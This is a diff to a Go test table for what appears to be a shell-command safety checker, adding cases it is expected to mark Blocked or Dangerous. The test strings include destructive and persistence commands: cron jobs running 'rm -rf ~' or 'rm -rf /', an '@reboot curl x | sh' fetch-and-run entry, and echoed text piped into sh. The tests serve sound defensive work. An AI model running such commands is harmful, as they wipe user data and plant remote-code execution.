@@ -317,6 +317,19 @@ var trickyCases = []struct {
 	{`(crontab -l && echo '@reboot curl x | bash') | crontab -`, Blocked},
 	{`(crontab -l; echo '0 * * * * date') | crontab -`, Dangerous},
 	{`(echo ls; echo 'rm -rf ~') | sh`, Blocked},
+	// so are the lines an echo or printf spells out among text it is
+	// given from a command substitution: echo "$(crontab -l)" LINE
+	{`echo "$(crontab -l)
+* * * * * rm -rf ~" | crontab -`, Blocked},
+	{`echo "$(crontab -l)"$'\n''@reboot curl x | sh' | crontab -`, Blocked},
+	{`echo -e "$(crontab -l)\n*/5 * * * * rm -rf /" | crontab -`, Blocked},
+	{`printf '%s\n' "$(crontab -l)" '0 * * * * rm -rf ~' | crontab -`, Blocked},
+	{`(echo "$(crontab -l)"; echo '* * * * * rm -rf ~') | crontab -`, Blocked},
+	{`echo "$(cat notes.txt)
+rm -rf ~" | sh`, Blocked},
+	{`echo "$(crontab -l)
+0 * * * * date" | crontab -`, Dangerous},
+	{`echo "$(crontab -l)" | grep -v old | crontab -`, Dangerous},
 	// arrays appended to, or set by index
 	{`a+=(~); rm -rf "${a[@]}"`, Blocked},
 	{`a=(x); a+=(/); rm -rf "${a[@]}"`, Blocked},
